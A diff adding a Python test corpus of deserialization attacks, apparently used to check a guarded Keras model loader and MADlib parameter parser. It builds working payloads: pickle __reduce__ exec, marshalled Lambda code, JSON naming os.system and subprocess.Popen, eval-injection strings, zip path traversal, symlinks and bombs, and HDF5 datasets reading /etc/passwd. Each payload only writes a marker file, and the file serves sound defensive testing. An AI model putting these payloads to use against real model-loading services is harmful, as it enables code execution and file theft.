@@ -1,0 +1,493 @@
+"""Attacks, each with a loader that falls for it.
+
+`python payloads.py FOLDER` gives every attack to its unguarded loader, and prints the names of those that worked: that
+left their mark in FOLDER, read what they may not, or asked for memory without bounds. test_attacks.py asks for that
+before it tries the same on pg_mop.
+"""
+
+import base64
+import codecs
+import io
+import json
+import marshal
+import os
+import pickle
+import sys
+import time
+import types
+import zipfile
+
+MB = 1 << 20
+
+
+class Writes:
+    """Unpickling it writes a file."""
+
+    def __init__(self, path):
+        self.path = path
+
+    def __reduce__(self):
+        return (exec, (f"open({self.path!r}, 'w').close()",))
+
+
+def code(mark):
+    """The serialized lambda of Keras that writes the file `mark`."""
+    function = eval(f"lambda x: (open({mark!r}, 'w').close(), x)[1]")
+    text = codecs.encode(marshal.dumps(function.__code__), "base64").decode("ascii")
+    return {"class_name": "__lambda__", "config": {"value": text, "code": text, "defaults": None, "closure": None}}
+
+
+def old_code(mark):
+    return [code(mark)["config"]["code"], None, None]
+
+
+def call(module, name, *arguments, **keywords):
+    """An object that names a function of Python, with what to call it with."""
+    return {"module": module, "class_name": "function", "config": name, "registered_name": "function",
+            "arguments": [list(arguments), keywords]}
+
+
+def made(module, name, /, **config):
+    """An object that names a class of Python."""
+    return {"module": module, "class_name": name, "config": config, "registered_name": None}
+
+
+def layer(kind, /, module="keras.layers", **config):
+    return {"module": module, "class_name": kind, "config": config, "registered_name": None}
+
+
+def sequential(*layers, shape=(4,)):
+    return {"module": "keras", "class_name": "Sequential", "registered_name": None, "config": {
+        "name": "s", "layers": [layer("InputLayer", batch_shape=[None, *shape], name="i"), *layers]}}
+
+
+def functional(inner):
+    history = {"class_name": "__keras_tensor__", "config": {"shape": [None, 4], "dtype": "float32",
+                                                            "keras_history": ["i", 0, 0]}}
+    return {"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional",
+            "config": {"name": "f", "trainable": True, "layers": [
+                {**layer("InputLayer", batch_shape=[None, 4], name="i"), "name": "i", "inbound_nodes": []},
+                {**inner, "name": "x", "inbound_nodes": [{"args": [history], "kwargs": {}}]}],
+                "input_layers": [["i", 0, 0]], "output_layers": [["x", 0, 0]]}}
+
+
+def code_layer(mark):
+    return layer("Lambda", name="x", function=code(mark))
+
+
+def dense(**config):
+    return layer("Dense", name="d", units=3, **config)
+
+
+def touch(mark):
+    return f"open({mark!r}, 'w').close()"
+
+
+# --- architectures: name -> (loader, the JSON for a mark, a part of the message) ------------------------------------
+ARCHITECTURES = {
+    "lambda in a Sequential": ("keras", lambda m: sequential(code_layer(m)), "layer class 'Lambda' may not be loaded"),
+    "lambda in a functional model": ("keras", lambda m: functional(code_layer(m)), "layer class 'Lambda'"),
+    "lambda in a nested model": ("keras", lambda m: sequential(sequential(code_layer(m))), "layer class 'Lambda'"),
+    "lambda nested in a functional model": (
+        "keras", lambda m: functional({**sequential(code_layer(m)), "name": "x"}), "layer class 'Lambda'"),
+    "lambda within TimeDistributed": ("keras", lambda m: sequential(layer(
+        "TimeDistributed", name="t", layer=code_layer(m)), shape=(2, 4)), "layer class 'Lambda'"),
+    "lambda of Keras 2's spelling": ("naive", lambda m: {"class_name": "Sequential", "config": [
+        {"class_name": "Lambda", "config": {"function": old_code(m), "function_type": "lambda",
+                                            "batch_input_shape": [None, 4]}}]}, "layer class 'Lambda'"),
+    "lambda with keras' dotted name": ("naive", lambda m: sequential(
+        {**code_layer(m), "class_name": "keras.layers.Lambda"}), "layer class 'Lambda'"),
+    "lambda from a module of keras": ("keras", lambda m: sequential(
+        {**code_layer(m), "module": "keras.src.layers.core.lambda_layer"}), "layer class 'Lambda'"),
+    "lambda as output_shape": ("naive", lambda m: sequential(layer(
+        "Lambda", name="x", function="relu", output_shape=code(m))), "layer class 'Lambda'"),
+    "lambda as mask": ("naive", lambda m: sequential(layer(
+        "Lambda", name="x", function="relu", mask=code(m))), "layer class 'Lambda'"),
+    "lambda as a cell": ("naive", lambda m: sequential(layer("RNN", name="r", cell=code_layer(m)), shape=(2, 4)),
+                         "layer class 'Lambda'"),
+    "lambda among stacked cells": ("naive", lambda m: sequential(layer("RNN", name="r", cell=layer(
+        "StackedRNNCells", cells=[layer("LSTMCell", units=2), code_layer(m)])), shape=(2, 4)), "layer class 'Lambda'"),
+    "lambda in Bidirectional": ("naive", lambda m: sequential(layer("Bidirectional", name="b", layer=code_layer(m)),
+                                                              shape=(2, 4)), "layer class 'Lambda'"),
+    "lambda as the backward layer": ("naive", lambda m: sequential(layer(
+        "Bidirectional", name="b", layer=layer("LSTM", units=2), backward_layer=code_layer(m)), shape=(2, 4)),
+        "layer class 'Lambda'"),
+    "code as an activation": ("naive", lambda m: sequential(dense(activation=code(m))), "activation '__lambda__'"),
+    "code as a recurrent activation": ("naive", lambda m: sequential(layer(
+        "LSTM", name="l", units=2, recurrent_activation=code(m)), shape=(2, 4)), "activation '__lambda__'"),
+    "code as an initializer": ("naive", lambda m: sequential(dense(kernel_initializer=code(m))),
+                               "is none of keras.initializers' own"),
+    "code as a regularizer": ("naive", lambda m: sequential(dense(activity_regularizer=code(m))),
+                              "is none of keras.regularizers' own"),
+    "code as a constraint": ("naive", lambda m: sequential(dense(bias_constraint=code(m))),
+                             "is none of keras.constraints' own"),
+    "code as an argument of a call": ("naive", lambda m: functional(
+        {**dense(), "inbound_nodes": [], "config": {"units": 3, "name": "x", "arguments": code(m)}}),
+        "an object of class '__lambda__' is not allowed"),
+    "code inside a tuple": ("naive", lambda m: sequential(dense(extra={
+        "class_name": "__tuple__", "items": [1, code(m)]})), "'__lambda__' is not allowed"),
+    "code inside an initializer's config": ("naive", lambda m: sequential(dense(kernel_initializer=made(
+        "keras.initializers", "Constant", value=code(m)))), "'__lambda__' is not allowed"),
+    "os.system as an activation": ("naive", lambda m: sequential(dense(activation=call("os", "system", f"touch {m}"))),
+                                   "module 'os' of class 'function' is not Keras' own"),
+    "exec of builtins as an activation": ("naive", lambda m: sequential(dense(activation=call(
+        "builtins", "exec", touch(m)))), "activation 'exec' is none of Keras' own"),
+    "eval as an initializer": ("naive", lambda m: sequential(dense(kernel_initializer=call(
+        "builtins", "eval", touch(m)))), "is none of keras.initializers' own"),
+    "subprocess.Popen as a layer": ("naive", lambda m: sequential(made("subprocess", "Popen", args=["touch", m])),
+                                    "module 'subprocess' of class 'Popen' is not Keras' own"),
+    "subprocess.Popen as a config value": ("naive", lambda m: sequential(dense(other=made(
+        "subprocess", "Popen", args=["touch", m]))), "'Popen' is not allowed here"),
+    "subprocess.run as a cell": ("naive", lambda m: sequential(layer("RNN", name="r", cell=call(
+        "subprocess", "run", ["touch", m])), shape=(2, 4)), "module 'subprocess'"),
+    "a path as a layer": ("naive", lambda m: sequential(made("builtins", "open", file=m, mode="w")),
+                          "layer class 'open' may not be loaded"),
+    "a file handler of logging": ("naive", lambda m: sequential(made("logging", "FileHandler", filename=m)),
+                                  "module 'logging'"),
+    "os.open through a dotted class": ("naive", lambda m: sequential(made(
+        None, "os.open", path=m, flags=os.O_CREAT)), "class 'os.open' is not Keras' own"),
+    "a module of keras that imports os": ("naive", lambda m: sequential(dense(activation=call(
+        "keras.src.utils.file_utils", "os.system", f"touch {m}"))), "activation 'os.system'"),
+    "keras.utils.get_file": ("naive", lambda m: sequential(dense(activation=call(
+        "keras.utils", "get_file", os.path.basename(m), "file:///etc/hostname", cache_dir=os.path.dirname(m),
+        cache_subdir=""))), "activation 'get_file'"),
+    "keras.config.enable_unsafe_deserialization": ("unsafe", lambda m: sequential(dense(activation=call(
+        "keras.config", "enable_unsafe_deserialization"))), "activation 'enable_unsafe_deserialization'"),
+    "keras.saving's own func_load": ("naive", lambda m: sequential(dense(activation=call(
+        "keras.src.utils.python_utils", "func_load", code(m)["config"]["code"], called=True))),
+        "activation 'func_load'"),
+    "shutil.copyfile as a regularizer": ("naive", lambda m: sequential(dense(kernel_regularizer=call(
+        "shutil", "copyfile", "/etc/hostname", m))), "module 'shutil' of class 'function' is not Keras' own"),
+    "TorchModuleWrapper with a pickle": ("pickled", lambda m: sequential(made(
+        "keras.layers", "TorchModuleWrapper", module=base64.b64encode(pickle.dumps(Writes(m))).decode())),
+        "layer class 'TorchModuleWrapper' may not be loaded"),
+    "a numpy array of pickled objects": ("pickled", lambda m: sequential(dense(kernel_initializer=made(
+        "keras.initializers", "Constant", value={"class_name": "__numpy__", "config": {
+            "dtype": "O", "value": base64.b64encode(pickle.dumps(Writes(m))).decode()}}))),
+        "'__numpy__' is not allowed"),
+    "a tensor of pickled objects": ("pickled", lambda m: sequential(dense(other={
+        "class_name": "__tensor__", "config": {"dtype": "O", "value": base64.b64encode(
+            pickle.dumps(Writes(m))).decode()}})), "'__tensor__' is not allowed"),
+    "a typespec of another module": ("naive", lambda m: sequential(dense(other={
+        "class_name": "__typespec__", "spec_name": "Popen", "module": "subprocess", "registered_name": None,
+        "config": [["touch", m]]})), "'__typespec__' is not allowed"),
+    "a vocabulary file for StringLookup": ("reads", lambda m: sequential(layer(
+        "StringLookup", name="s", vocabulary="FILE")), "layer class 'StringLookup' may not be loaded"),
+    "a vocabulary file for TextVectorization": ("reads", lambda m: sequential(layer(
+        "TextVectorization", name="s", vocabulary="FILE")), "layer class 'TextVectorization'"),
+    "a vocabulary file for IntegerLookup": ("reads", lambda m: sequential(layer(
+        "IntegerLookup", name="s", vocabulary="FILE")), "layer class 'IntegerLookup'"),
+    "os.mkfifo as a layer": ("naive", lambda m: sequential(made("os", "mkfifo", path=m)), "module 'os'"),
+    "TFSMLayer of a user's folder": ("tfsm", lambda m: sequential(layer("TFSMLayer", name="t", filepath="FOLDER")),
+                                     "layer class 'TFSMLayer' may not be loaded"),
+    "a registered name of another package": ("naive", lambda m: sequential(
+        layer("Dense", units=f"touch {m}") | {"registered_name": "os>system"}),
+        "registered name 'os>system' of class 'Dense' is custom"),
+    "nesting deeper than Python's stack": ("deep", lambda m: "[" * 200_000, "the architecture is not JSON"),
+    "a number of a million digits": ("digits", lambda m: '{"class_name": "Sequential", "config": %s}' % ("9" * 10**6),
+                                     "the architecture is not JSON"),
+    "twenty million characters": ("long", lambda m: '"%s"' % ("x" * (20 * MB)), "characters, at most"),
+    "six thousand layers": ("many", lambda m: sequential(*[dense()] * 6000), "more than 5000 layers"),
+}
+
+
+# --- parameter strings: name -> (compile or fit, the string for a mark, a part of the message) ----------------------
+def _compile(loss="'mse'", optimizer="'SGD()'", **more):
+    return ", ".join([f"loss={loss}", f"optimizer={optimizer}", *(f"{k}={v}" for k, v in more.items())])
+
+
+PARAMETERS = {
+    "code as a loss": ("compile", lambda m: _compile(loss=touch(m)), "loss .* is not a name"),
+    "an import as a loss": ("compile", lambda m: _compile(loss=f"__import__('os').system('touch {m}')"),
+                            "is not a name"),
+    "code as an optimizer": ("compile", lambda m: _compile(optimizer=touch(m)), "unknown optimizer"),
+    "code as the learning rate": ("compile", lambda m: _compile(optimizer=f"SGD(lr={touch(m)})"),
+                                  "optimizer argument learning_rate' must be a literal"),
+    "a schedule of code": ("compile", lambda m: _compile(optimizer=f"Adam(learning_rate=[{touch(m)} for _ in [1]])"),
+                           "must be a literal"),
+    "a subclass walk": ("compile", lambda m: _compile(optimizer="SGD(lr=[c for c in ().__class__.__base__."
+                        f"__subclasses__() if c.__name__ == 'Popen' and c(['touch', '{m}']).wait()])"),
+                        "must be a literal"),
+    "code as a metric": ("compile", lambda m: _compile(metrics=f"[{touch(m)}]"), "metrics' must be a literal"),
+    "a dictionary with code as weights": ("compile", lambda m: _compile(loss_weights=f"dict([(1, {touch(m)})])"),
+                                          "loss_weights' must be a literal"),
+    "code as weighted metrics": ("compile", lambda m: _compile(weighted_metrics=f"({touch(m)},)"),
+                                 "weighted_metrics' must be a literal"),
+    "another argument that is code": ("compile", lambda m: _compile(run_eagerly=touch(m)), "is not accepted"),
+    "code as the batch size": ("fit", lambda m: f"batch_size={touch(m)}", "batch_size' must be a literal"),
+    "code in an f-string": ("fit", lambda m: "epochs=f\"{open('%s', 'w')}\"" % m, "epochs' must be a literal"),
+    "a lambda that is called": ("fit", lambda m: f"shuffle=(lambda: {touch(m)})()", "shuffle' must be a literal"),
+    "code as class weights": ("fit", lambda m: "class_weight={0: %s}" % touch(m), "class_weight' must be a literal"),
+    "a walrus": ("fit", lambda m: f"verbose=(x := {touch(m)})", "verbose' must be a literal"),
+    "code as callbacks": ("fit", lambda m: f"callbacks=[{touch(m)}]", "callbacks must be one TensorBoard"),
+    "code in a callback": ("fit", lambda m: f"callbacks=[dict(log_dir={touch(m)})]", "must be one TensorBoard"),
+    "an argument of fit that is code": ("fit", lambda m: f"validation_data={touch(m)}", "is not accepted"),
+}
+
+
+# --- files: name -> (loader, the bytes for a mark, a part of the message) -------------------------------------------
+def archive(config=None, weights=None, method=zipfile.ZIP_STORED, **others):
+    made_file = io.BytesIO()
+    with zipfile.ZipFile(made_file, "w", method) as file:
+        file.writestr("config.json", json.dumps(sequential(dense())) if config is None else config)
+        file.writestr("model.weights.h5", h5(lambda f: None) if weights is None else weights)
+        for name, content in others.items():
+            file.writestr(name, content)
+    return made_file.getvalue()
+
+
+def h5(fill):
+    import h5py
+    memory = io.BytesIO()
+    with h5py.File(memory, "w") as file:
+        group = file.create_group("layers/dense/vars")
+        group["1"] = [0.0, 0.0, 0.0]
+        fill(group)
+    return memory.getvalue()
+
+
+def virtual(group):
+    import h5py
+    layout = h5py.VirtualLayout((4, 3), "f4")
+    layout[:] = h5py.VirtualSource("/tmp/other.h5", "secret", (4, 3))
+    group.create_virtual_dataset("0", layout)
+
+
+def external(group):
+    group.create_dataset("0", (4, 3), "f4", external=[("/etc/passwd", 0, 48)])
+
+
+def link(group):
+    import h5py
+    group["0"] = h5py.ExternalLink("/tmp/other.h5", "/secret")
+
+
+def texts(group):
+    import h5py
+    group.create_dataset("0", data=["x"] * 12, dtype=h5py.string_dtype())
+
+
+def renamed(member, name):
+    """An archive whose member `member` is called `name`, of equal length."""
+    return archive(**{member: "x"}).replace(member.encode(), name.encode())
+
+
+def symlink(mark):
+    made_file = io.BytesIO(archive())
+    with zipfile.ZipFile(made_file, "a") as file:
+        info = zipfile.ZipInfo("assets")
+        info.external_attr = 0o120777 << 16
+        file.writestr(info, os.path.dirname(mark))
+        file.writestr("assets/" + os.path.basename(mark), "x")
+    return made_file.getvalue()
+
+
+FILES = {
+    "a .keras file with a Lambda": ("load_model", lambda m: archive(json.dumps(sequential(code_layer(m)))),
+                                    "layer class 'Lambda' may not be loaded"),
+    "a .keras file with a nested Lambda": ("load_model", lambda m: archive(json.dumps(
+        functional({**sequential(code_layer(m)), "name": "x"}))), "layer class 'Lambda'"),
+    "a .keras file that compiles code": ("load_model", lambda m: archive(json.dumps(
+        {**sequential(dense(activation="linear")), "compile_config": {"loss": code(m), "optimizer": "sgd"},
+         "build_config": {"input_shape": [None, 4]}, "module": "os"})), "module 'os' of class 'Sequential'"),
+    "a pickle called .keras": ("pickle", lambda m: pickle.dumps(Writes(m)), "it is no .keras file"),
+    "pickled weights": ("pickle_member", lambda m: archive(weights=pickle.dumps(Writes(m))),
+                        "its weights cannot be read"),
+    "a pickled part of a model": ("pickle_member", lambda m: archive(**{"custom.pkl": pickle.dumps(Writes(m))}),
+                                  "it holds 'custom.pkl', which is no part of a model"),
+    "a path that climbs": ("unzip", lambda m: archive(**{"../" * 9 + m[1:]: "x"}), "which is no part of a model"),
+    "an absolute path": ("unzip", lambda m: archive(**{m: "x"}), "which is no part of a model"),
+    "a symbolic link": ("unzip", symlink, "it holds 'assets', which is no part of a model"),
+    "a bomb of zeros": ("unpack", lambda m: archive(weights=bytes(300 * MB), method=zipfile.ZIP_DEFLATED),
+                        "model.weights.h5 has 314572800 bytes"),
+    "a bomb of spaces as JSON": ("unpack", lambda m: archive(b" " * (200 * MB), method=zipfile.ZIP_DEFLATED),
+                                 "config.json has 209715200 bytes"),
+    "a bomb of another method": ("unpack", lambda m: archive(weights=bytes(300 * MB), method=zipfile.ZIP_BZIP2),
+                                 "compressed by method 12"),
+    "HDF5 that reads a file of the server": ("h5", lambda m: archive(weights=h5(external)),
+                                             "'0', which is stored elsewhere"),
+    "HDF5 with a link to another file": ("h5", lambda m: archive(weights=h5(link)), "hold a link, '0'"),
+    "HDF5 with virtual storage": ("h5", lambda m: archive(weights=h5(virtual)), "'0', which is stored elsewhere"),
+    "HDF5 of four terabytes in a few bytes": ("h5", lambda m: archive(weights=h5(lambda g: g.create_dataset(
+        "0", (10**6, 10**6), "f4", chunks=(1000, 1000)))), "at most .* are plausible"),
+    "HDF5 that inflates": ("h5", lambda m: archive(weights=h5(lambda g: g.create_dataset(
+        "0", (100 * MB,), "f4", chunks=(MB,), compression="gzip", fillvalue=1))), "at most .* are plausible"),
+    "HDF5 with objects": ("h5", lambda m: archive(weights=h5(texts)), "which is of Python objects or texts"),
+}
+
+
+# --- the unguarded loaders --------------------------------------------------------------------------------------------
+def write(mark):
+    open(mark, "w").close()
+
+
+def naive(node):
+    """What loaders did before they were mended: import what the JSON names and call it."""
+    import importlib
+    for inner in node.values() if isinstance(node, dict) else node if isinstance(node, list) else ():
+        naive(inner)
+    if not isinstance(node, dict) or "class_name" not in node:
+        return
+    name, config = node["class_name"], node.get("config")
+    if name in ("Lambda", "keras.layers.Lambda") and isinstance(config["function"], list) or name == "__lambda__":
+        text = config["function"][0] if "function" in config else config["code"]
+        types.FunctionType(marshal.loads(codecs.decode(text.encode(), "base64")), globals())(1)
+    elif name == "function":
+        found = importlib.import_module(node["module"])
+        for part in config.split("."):
+            found = getattr(found, part)
+        arguments, keywords = node["arguments"]
+        if keywords.pop("called", False):
+            found(*arguments)(1)
+        else:
+            found(*arguments, **keywords)
+    elif name == "__typespec__":
+        getattr(importlib.import_module(node["module"]), node["spec_name"])(*config)
+    elif ">" in (node.get("registered_name") or ""):
+        package, _, name = node["registered_name"].partition(">")
+        getattr(importlib.import_module(package), name)(*config.values())
+    elif node.get("module") not in ("keras", "keras.layers", "keras.initializers", "keras.src.models.functional"):
+        module, _, name = f"{node.get('module') or ''}.{name}".lstrip(".").rpartition(".")
+        if module and not name.startswith("__"):
+            getattr(importlib.import_module(module), name)(**config)
+
+
+def prove_architecture(loader, data, mark):
+    import keras
+    if loader == "naive":
+        naive(data)
+    elif loader in ("keras", "unsafe"):
+        keras.config.enable_unsafe_deserialization()
+        if loader == "unsafe":
+            keras.src.backend.common.global_state.set_global_attribute("safe_mode_saving", True)
+            activation = data["config"]["layers"][1]["config"]["activation"]
+            getattr(keras.config, activation["config"])()
+            if keras.src.saving.serialization_lib.in_safe_mode() is False:
+                write(mark)
+            return
+        model = keras.models.model_from_json(json.dumps(data))
+        model(keras.ops.ones((1, *model.input_shape[1:])))
+    elif loader == "pickled":
+        text = json.dumps(data)
+        start = text.index("gAS")  # a pickle's first bytes
+        pickle.loads(base64.b64decode(text[start:text.index('"', start)]))
+    elif loader == "reads":
+        name, words = data["config"]["layers"][1]["class_name"], mark + ".words"
+        with open(words, "w") as file:
+            file.write("12\n34\n")
+        if getattr(keras.layers, name)(vocabulary=words).vocabulary_size() >= 3:
+            write(mark)
+    elif loader == "tfsm":
+        import tensorflow as tf
+        module = tf.Module()
+        module.serve = tf.function(lambda x: (tf.io.write_file(mark, "x"), x)[1],
+                                   input_signature=[tf.TensorSpec([None, 4])])
+        tf.saved_model.save(module, mark + ".model", signatures=module.serve)
+        keras.layers.TFSMLayer(mark + ".model", call_endpoint="serve")(tf.ones((1, 4)))
+    elif loader == "deep":
+        try:
+            json.loads(data)
+        except RecursionError:
+            write(mark)
+    elif loader == "digits":
+        sys.set_int_max_str_digits(0)
+        if json.loads(data)["config"] > 10**999_000:
+            write(mark)
+        sys.set_int_max_str_digits(4300)
+    elif loader == "long":
+        if len(json.loads(data)) == 20 * MB:
+            write(mark)
+    elif loader == "many" and len(keras.saving.deserialize_keras_object(data["config"]["layers"])) > 6000:
+        write(mark)
+
+
+def prove_parameters(loader, text, mark):
+    """MADlib gives such strings to eval, in whole or in part."""
+    namespace = {"SGD": dict, "Adam": dict}
+    try:
+        eval(f"dict({text})", namespace)
+    except Exception:
+        if not os.path.exists(mark):
+            raise
+
+
+def prove_file(loader, data, mark):
+    import h5py
+    import keras
+    import numpy as np
+    if loader == "pickle":
+        pickle.loads(data)
+        return
+    with zipfile.ZipFile(io.BytesIO(data)) as file:
+        if loader == "pickle_member":
+            for name in file.namelist():
+                if file.read(name)[:1] == b"\x80":
+                    pickle.loads(file.read(name))
+        elif loader == "unzip":
+            folder = mark + ".unzipped"
+            os.makedirs(folder)
+            for info in file.infolist():
+                to = os.path.join(folder, info.filename)
+                if info.external_attr >> 28 == 0o12:
+                    os.symlink(file.read(info).decode(), to)
+                else:
+                    with open(to, "wb") as out:
+                        out.write(file.read(info))
+        elif loader == "unpack":
+            if max(len(file.read(name)) for name in file.namelist()) > 100 * MB > 100 * len(data):
+                write(mark)
+        elif loader == "load_model":
+            path = mark + ".keras"
+            with open(path, "wb") as out:
+                out.write(data)
+            if "compile_config" in json.loads(file.read("config.json")):
+                naive(json.loads(file.read("config.json"))["compile_config"]["loss"])
+                return
+            try:
+                keras.saving.load_model(path, safe_mode=False)
+            except ValueError:
+                assert os.path.exists(mark)  # the weights do not fit, but the code has run
+        elif loader == "h5":
+            with h5py.File("/tmp/other.h5", "w") as other:
+                other["secret"] = np.full((4, 3), 7, "f4")
+            with open(mark + ".h5", "wb") as out:
+                out.write(file.read("model.weights.h5"))
+            with h5py.File(mark + ".h5", "r") as weights:
+                item = weights["layers/dense/vars/0"]
+                try:
+                    array = np.asarray(item)
+                except MemoryError:
+                    write(mark)
+                    return
+                if array.dtype.hasobject or array.nbytes > 100 * MB or array.any():
+                    write(mark)
+            os.remove("/tmp/other.h5")
+
+
+GROUPS = {"architecture": (ARCHITECTURES, prove_architecture), "parameters": (PARAMETERS, prove_parameters),
+          "file": (FILES, prove_file)}
+
+
+def file_name(name):
+    return "".join(c if c.isalnum() else "_" for c in name)
+
+
+def main(folder):
+    """Try everything; the names of what worked, one in a line."""
+    marks = {}
+    for payloads, prove in GROUPS.values():
+        for name, (loader, make, _) in payloads.items():
+            marks[name] = mark = os.path.join(folder, file_name(name))
+            try:
+                prove(loader, make(mark), mark)
+            except Exception as error:
+                print(f"# {name}: {type(error).__name__}: {str(error)[:200]}")
+    time.sleep(0.5)  # children that nobody waits for
+    for name, mark in marks.items():
+        if os.path.exists(mark):
+            print(name)
+
+
+if __name__ == "__main__":
+    os.environ.update(TF_CPP_MIN_LOG_LEVEL="3", CUDA_VISIBLE_DEVICES="-1")
+    main(sys.argv[1])
